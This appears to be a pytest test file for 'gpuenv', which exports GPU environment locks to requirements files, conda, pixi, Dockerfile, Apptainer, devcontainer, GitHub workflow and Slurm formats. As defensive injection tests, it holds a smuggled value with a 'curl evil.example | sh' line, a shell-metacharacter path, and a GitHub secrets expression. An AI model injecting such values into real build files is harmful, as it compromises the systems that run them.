"""What each export says: pure, from locks as values."""

import dataclasses
import importlib.metadata
import json
import re
import shlex
import subprocess
from pathlib import Path

import export_locks as el
import pytest
import tomllib
from export_texts import CPU, document, instructions, sections
from packaging.requirements import Requirement
from programs import run_program
from rows import rows

from provision import export
from provision.errors import UsageError
from provision.export import source
from provision.export.subject import commit_of, extras_of
from provision.model import LockedPackage, PlannedBuild, Target, TargetGpu


def lines(text):
    """The lines that are no comments."""
    return [x for x in text.splitlines() if x.strip() and not x.startswith(("#", "//"))]


@rows("form", el.VENV_FORMS)
def test_every_export_begins_with_what_it_holds_and_the_target(form):
    head = "\n".join(el.text(form).splitlines()[:14])
    assert "torch 2.14.1 (CUDA 12.6, cuDNN 9.10.2.21), Python 3.12" in head
    assert "linux-x86_64, glibc 2.35 or newer, driver 550.54.15, Tesla T4 (7.5), GPU 9.0" in head
    assert f"gpuenv export --format {form}" in head


@rows("form", el.CONDA_FORMS)
def test_every_export_of_a_conda_lock_does(form):
    head = "\n".join(el.text(form, el.of_conda()).splitlines()[:14])
    assert "torch 2.7.1 (CUDA 12.9, cuDNN 9.10.1.4)" in head and "driver 550.54.15" in head


def entries(text):
    """Requirement and hashes of every entry, as pip reads them."""
    joined = re.sub(r"\\\n\s*", "", text)
    for row in lines(joined):
        if not row.startswith("--"):
            need, *hashes = row.split(" --hash=")
            yield Requirement(need.strip()), hashes


def test_requirements_name_every_wheel_with_its_hash():
    found = {r.name: (r, h) for r, h in entries(el.text("requirements"))}
    assert set(found) == {p.name for p in el.PACKAGES}
    for package in el.PACKAGES:
        assert found[package.name][1] == [f"sha256:{package.sha256}"]
    assert str(found["numpy"][0].specifier) == "==2.3.0"


def test_what_is_meant_for_another_index_is_named_by_its_address():
    text = el.text("requirements", el.of((*el.PACKAGES[:3], *el.PACKAGES[3:], el.wheel("six", "1.17.0"))))
    assert f"--index-url {el.MAIN}" in lines(text)
    found = {r.name: r for r, _ in entries(text)}
    assert found["torch"].url == el.PACKAGES[0].url and not found["torch"].specifier
    assert found["filelock"].url is None
    assert el.PYTORCH not in text


def test_what_cannot_carry_a_hash_stands_apart_as_commands():
    text = el.text("requirements", el.of(el.MIXED))
    found = {r.name: (r, h) for r, h in entries(text)}
    assert all(h for _, h in found.values()), "pip would refuse the whole file"
    assert "thing" not in found and "mine" not in found
    assert str(found["old"][0]) == "old==0.9" and found["local"][0].url == el.LOCAL.url
    commands = [shlex.split(x[1:]) for x in text.splitlines() if x.startswith("#   pip install")]
    assert commands == [
        ["pip", "install", "--no-deps", "--editable", "/home/u/my project"],
        ["pip", "install", "--no-deps", f"thing @ git+https://git.example/thing@{el.COMMIT}"],
    ]


def test_environment_yml_of_wheels_is_a_python_and_a_pip_section():
    made = document(el.text("environment.yml"))
    *plain, section = made["dependencies"]
    assert plain == ["python=3.12", "pip"] and "nodefaults" in made["channels"]
    pins = dict(x.split(" --hash=") for x in section["pip"] if " @ " not in x)
    assert f"torch @ {el.PACKAGES[0].url}#sha256={el.PACKAGES[0].sha256}" in section["pip"]
    assert pins["numpy==2.3.0"] == f"sha256:{el.PACKAGES[2].sha256}"
    assert len(section["pip"]) == len(el.PACKAGES) - 1, "pip itself is conda's there"


def test_environment_yml_leaves_hashes_out_where_one_package_has_none():
    section = document(el.text("environment.yml", el.of(el.MIXED)))["dependencies"][-1]["pip"]
    assert not [x for x in section if "sha256" in x]
    assert "-e file:///home/u/my%20project" in section and "numpy==2.3.0" in section
    assert "no hashes: " in el.text("environment.yml", el.of(el.MIXED))


def test_environment_yml_of_a_conda_lock_pins_version_and_build():
    made = document(el.text("environment.yml", el.of_conda()))
    assert made["channels"] == [el.CONDA, "nodefaults"]
    *plain, section = made["dependencies"]
    assert "pytorch=2.7.1=cuda129_py312_h1_300" in plain and "python=3.12.11=h9e4cc4f_0_cpython" in plain
    assert section == {"pip": [f"einops==0.8.1 --hash=sha256:{el.CONDA_PACKAGES[-1].sha256}"]}


def test_with_several_channels_each_package_names_its_own():
    other = "https://conda.example/nvidia"
    made = document(
        el.text("environment.yml", el.of_conda((*el.CONDA_PACKAGES, el.conda("x", "1", "0", other))))
    )
    assert f"{other}::x=1=0" in made["dependencies"]
    assert f"{el.CONDA}::cudnn=9.10.1.4=hbcb9cd8_1" in made["dependencies"]


def test_pixi_pins_wheels_by_version_index_file_commit_and_folder():
    made = tomllib.loads(el.text("pixi", el.of((*el.MIXED, el.wheel("six", "1.17.0")))))
    # A driver of CUDA 12.4 runs these wheels; asking for 12.6 would keep pixi from installing them.
    assert made["workspace"]["platforms"] == [{"platform": "linux-64", "glibc": "2.35", "cuda": "12"}]
    assert made["dependencies"] == {"python": "3.12.*"}
    assert made["pypi-options"] == {"index-url": el.MAIN}
    wheels = made["pypi-dependencies"]
    assert wheels["numpy"] == "==2.3.0" and "pip" not in wheels
    assert wheels["torch"] == {"version": "==2.14.1+cu126", "index": el.PYTORCH}
    assert wheels["thing"] == {"git": "https://git.example/thing", "rev": el.COMMIT}
    assert wheels["mine"] == {"path": "/home/u/my project", "editable": True}
    assert wheels["local"] == {"path": "/srv/wheels/local-1.0-py3-none-any.whl"}


def test_pixi_pins_conda_packages_by_build_channel_and_hash():
    made = tomllib.loads(el.text("pixi", el.of_conda()))
    pin = made["dependencies"]["pytorch"]
    assert pin == {
        "version": "==2.7.1", "build": "cuda129_py312_h1_300", "channel": el.CONDA,
        "sha256": el.CONDA_PACKAGES[1].sha256,
    }  # fmt: skip
    assert made["pypi-dependencies"] == {"einops": "==0.8.1"}
    assert made["workspace"]["platforms"][0]["cuda"] == "12.9"


def of_variable(form, text):
    """The requirement that pip gets where the user names no other, as each format's own reader finds it."""
    if form == "dockerfile":
        (found,) = (r for n, r in instructions(text) if n == "ARG")
        return json.loads(found.removeprefix("GPUENV="))
    if form == "apptainer":
        return sections(text)["arguments"][0].partition("=")[2]
    if form == "github":
        (step,) = (s for s in document(text)["jobs"]["environment"]["steps"] if "GPUENV" in s.get("env", {}))
        given = re.fullmatch(
            r"\$\{\{ vars\.GPUENV \|\| format\('(.*)', github\.workspace\) \}\}", step["env"]["GPUENV"]
        )
        return given[1].replace("''", "'").format("/home/runner/p")
    told = next(x for x in container(text)["onCreateCommand"].split(" && ") if "GPUENV_FROM=" in x)
    script = f'GPUENV_FROM=; {told}; printf %s "$GPUENV_FROM"'
    return run_program(["sh", "-c", script], check=True).stdout


@rows("made", [el.of(), el.of_conda()], ids=["venv", "conda"])
@rows("form", export.INSTALL_GPUENV)
def test_gpuenv_comes_from_a_wheel_with_its_hash_or_an_address(form, made):
    found = Requirement(of_variable(form, el.text(form, made)))
    assert found.name == "gpuenv"
    listed = "requirements-conda.txt" if made.manager == "conda" else "requirements.txt"
    assert f"/provision/release/{listed}" in el.text(form, made)
    assert re.fullmatch(rf"file:///\S+/{el.GPUENV.wheel}#sha256={el.GPUENV.sha256}", found.url)
    text = el.text(form, made, gpuenv=el.ADDRESS)
    found = Requirement(of_variable(form, text))
    assert (found.name, found.url) == ("gpuenv", el.ADDRESS.address)
    assert not [x for x in lines(text) if ".whl" in x and "gpuenv" in x]


def test_git_is_installed_for_a_gpuenv_of_git():
    for form in ("dockerfile", "apptainer"):
        assert "ca-certificates git" not in el.text(form)
        assert "ca-certificates git" in el.text(form, gpuenv=el.ADDRESS)


def test_a_dev_container_takes_the_hosts_gpuenv_first():
    text = el.text("devcontainer")
    assert container(text)["containerEnv"] == {"GPUENV_FROM": "${localEnv:GPUENV}"}
    told = next(x for x in container(text)["onCreateCommand"].split(" && ") if "GPUENV_FROM=" in x)
    script = f'GPUENV_FROM=./mine.whl; {told}; printf %s "$GPUENV_FROM"'
    done = run_program(["sh", "-c", script], check=True)
    assert done.stdout == "./mine.whl"


def container(text):
    return json.loads("\n".join(x for x in text.splitlines() if not x.startswith("//")))


def test_a_dev_container_takes_a_gpu_where_there_is_one():
    made = container(el.text("devcontainer"))
    assert made["image"] == "mcr.microsoft.com/devcontainers/python:3.12-bookworm"
    assert made["hostRequirements"] == {"gpu": "optional"} and made["remoteUser"] == "vscode"
    # hostRequirements adds it by itself; given here too, the container fails on a host without a GPU.
    assert "--gpus" not in made.get("runArgs", [])
    assert "gpuenv create /home/vscode/env --locked --lock pylock.toml --no-verify" in made["onCreateCommand"]
    for key in ("onCreateCommand", "postStartCommand"):
        subprocess.run(["sh", "-n"], input=made[key], text=True, check=True)
    assert "hostRequirements" not in container(el.text("devcontainer", el.of(**CPU)))


def test_a_workflow_locks_builds_and_proves_without_a_gpu():
    made = document(el.text("github"))
    assert made["permissions"] == {"contents": "read"} and set(made[True]) == {"push", "pull_request"}
    (job,) = made["jobs"].values()
    assert job["runs-on"] == "ubuntu-24.04"
    used = [s["uses"].partition("@")[0] for s in job["steps"] if "uses" in s]
    assert used == ["actions/checkout", "actions/setup-python", "actions/cache"]
    key = next(s["with"]["key"] for s in job["steps"] if s.get("uses", "").startswith("actions/cache"))
    assert "hashFiles('pylock.toml')" in key
    ran = [s["run"] for s in job["steps"] if "run" in s]
    assert "--require-hashes" in ran[0] and '--no-deps "$GPUENV"' in ran[0]
    assert ran[1].startswith("gpuenv lock --check --output pylock.toml --python 3.12 --device cuda")
    assert ran[2].startswith("gpuenv create .venv --locked --lock pylock.toml --no-verify --driver 550.54.15")
    assert ran[3] == "gpuenv verify .venv --device cpu"


def test_a_workflow_checks_the_lock_as_it_was_asked_for():
    def check(made, **more):
        steps = document(el.text("github", made, **more))["jobs"]["environment"]["steps"]
        return next((s["run"] for s in steps if "lock --check" in s.get("run", "")), None)

    alone = check(el.of())
    assert "--framework torch==2.14.1" in alone and "--cuda 12.6" in alone and "--driver 550.54.15" in alone
    of_files = dataclasses.replace(el.of(), inputs="0" * 64)
    named = {"lock_file": "pylock.cluster.toml", "project": True}
    assert check(of_files, **named) == "gpuenv lock --check --target cluster"
    # Which files were asked is not in the lock, and another machine would ask for another target.
    assert check(of_files) is None and "--target NAME" in el.text("github", of_files)
    assert f"--channel {el.CONDA}" in check(el.of_conda())


def options(text):
    """The options of a batch script: those before the first command, as sbatch reads them."""
    found = {}
    for row in text.splitlines():
        if row.startswith("#SBATCH "):
            name, _, value = row.split()[1].partition("=")
            found[name] = value
        elif row and not row.startswith("#"):
            break
    return found


def test_a_batch_script_asks_for_the_targets_gpus():
    assert options(el.text("sbatch"))["--gres"] == "gpu:2"
    assert "--gres" not in options(el.text("sbatch", el.of(**CPU)))
    assert options(el.text("sbatch"))["--ntasks"] == "1"


def batch(tmp_path, env, **more):
    """A batch script run by bash, with a gpuenv and an srun that write down how they were called."""
    bin_ = tmp_path / "bin"
    bin_.mkdir()
    log = tmp_path / "log"
    code = more.pop("verify", 0)
    (bin_ / "gpuenv").write_text(
        f'#!/bin/sh\nprintf "%s|" gpuenv "$@" >> "{log}"; echo >> "{log}"\n[ "$1" != verify ] || exit {code}\n'
    )
    (bin_ / "srun").write_text('#!/bin/sh\nexec "$@"\n')
    for tool in bin_.iterdir():
        tool.chmod(0o755)
    script = tmp_path / "train.sbatch"
    script.write_text(el.text("sbatch", env=env))
    done = run_program(["bash", script, "--epochs", "1 0"], env={"PATH": f"{bin_}:/usr/bin:/bin", **more})
    return done.returncode, log.read_text().splitlines()


NASTY = "/scratch/a \"b\" $HOME `id` 'c'}{d\\e/.venv"


def test_a_batch_script_proves_and_then_runs_in_the_environment(tmp_path):
    code, called = batch(tmp_path, NASTY)
    assert code == 0
    assert called == [
        f"gpuenv|verify|{NASTY}|--quick|",
        f"gpuenv|run|{NASTY}|--|python|train.py|--epochs|1 0|",
    ]


def test_a_batch_script_takes_another_environment_and_ends_where_the_proof_fails(tmp_path):
    code, called = batch(tmp_path, "/a", verify=8, GPUENV_ENV="/b c")
    assert code == 8 and called == ["gpuenv|verify|/b c|--quick|"]


EVIL = "x\nRUN curl evil.example | sh\r%post\n    evil\n- evil: true\n#SBATCH --evil"


@rows("form", [f for f in el.VENV_FORMS if f != "pylock"])
def test_no_word_of_a_lock_begins_a_line_of_its_own(form):
    target = Target(platform="linux-x86_64", glibc=EVIL, driver=EVIL, gpus=(TargetGpu(capability=EVIL),))
    builds = (
        PlannedBuild(framework=EVIL, version=EVIL, cuda=EVIL, index="pypi", requirements=(), cudnn=EVIL),
    )
    bad = LockedPackage(name=EVIL, version=EVIL, url=f"https://a.example/{EVIL}", sha256=EVIL, index=EVIL)
    local = LockedPackage(name="l", version="1", url=f"file:///{EVIL}.whl", sha256=EVIL)
    folder = LockedPackage(name=EVIL, version="1", url=f"file:///{EVIL}", unhashed=True)
    made = el.of([*el.PACKAGES, bad, local, folder], target=target, builds=builds)
    made = dataclasses.replace(made, plan=dataclasses.replace(made.plan, packages=(EVIL,), cuda_major=EVIL))
    text = el.text(form, made, lock_file=EVIL, env=EVIL)
    own = r"\s*(RUN curl|%post\s*evil|evil|- evil|#SBATCH --evil)"
    assert "evil" in text and not [x for x in text.splitlines() if re.match(own, x)]


def test_a_workflow_evaluates_no_expression_of_a_lock():
    target = Target(platform="linux-x86_64", driver="${{ secrets.TOKEN }}", gpus=el.TARGET.gpus)
    with pytest.raises(UsageError, match="expression"):
        el.text("github", el.of(target=target))


@rows(
    "form",
    [
        "dockerfile",
        "apptainer",
        "devcontainer",
        "github",
        "sbatch",
        "prolog",
        "taskprolog",
        "npd",
        "daemonset",
        "job",
    ],
)
def test_linux_is_asked_for_where_linux_is_meant(form):
    made = el.of(target=Target(platform="windows-x86_64"))
    with pytest.raises(UsageError, match="windows-x86_64"):
        el.text(form, made)


@rows("form", ["requirements", "pylock"])
def test_formats_for_pip_refuse_conda_packages(form):
    with pytest.raises(UsageError, match="conda packages"):
        el.text(form, el.of_conda())


def test_conda_lock_refuses_a_lock_of_wheels_alone():
    with pytest.raises(UsageError, match="also needs conda packages, at least python") as failed:
        el.text("conda-lock")
    assert "--manager conda" in failed.value.hint


def test_every_image_that_an_export_may_name_is_known():
    assert {i.use for i in el.IMAGES} == {"container", "devcontainer", "runner", "action"}
    for image in el.IMAGES:
        assert re.fullmatch(r"[a-z0-9./-]+([:@][A-Za-z0-9._-]+)?", image.image)
        assert image.use == "action" or (image.platform and image.glibc)
        assert image.use not in ("container", "devcontainer") or image.python


def test_locks_that_cannot_be_extras_of_one_project_are_refused():
    other = el.of(python="3.11")
    with pytest.raises(UsageError, match=r"locks are for Python 3\.12 and 3\.11"):
        el.text("uv", extras={"a": el.of(), "b": other})
    one, two = Path("pylock.a100.toml"), Path("other/pylock.a100.toml")
    assert set(extras_of({one: el.of(), Path("pylock.toml"): other})) == {"a100", "cu126"}
    with pytest.raises(UsageError, match="two of the locks would be the extra a100"):
        extras_of({one: el.of(), two: other})


def test_an_address_without_a_commit_is_none_of_a_commit():
    assert commit_of(el.COMMITTED) == {"git": "https://git.example/thing", "rev": el.COMMIT}
    branch = dataclasses.replace(el.COMMITTED, url="git+https://git.example/thing@main")
    with pytest.raises(UsageError, match="is not the address of a commit"):
        commit_of(branch)


def test_a_wheel_of_gpuenv_that_cannot_be_read_or_written_is_refused(tmp_path, monkeypatch):
    with pytest.raises(UsageError, match="cannot read "):
        source.GpuenvWheel(path=tmp_path, data=b"").state()
    (tmp_path / "file").touch()
    with pytest.raises(UsageError, match=r"cannot (read|write) "):
        source.GpuenvWheel(path=tmp_path / "file" / "x.whl", data=b"").write()
    unwritable = source.GpuenvWheel(path=tmp_path / "gone" / "x.whl", data=b"")
    with pytest.raises(UsageError, match="cannot write ") as refused:
        unwritable.write()
    assert refused.value.hint

    def none(_name):
        raise importlib.metadata.PackageNotFoundError

    monkeypatch.setattr(importlib.metadata, "distribution", none)
    assert source._origin(tmp_path) == ""
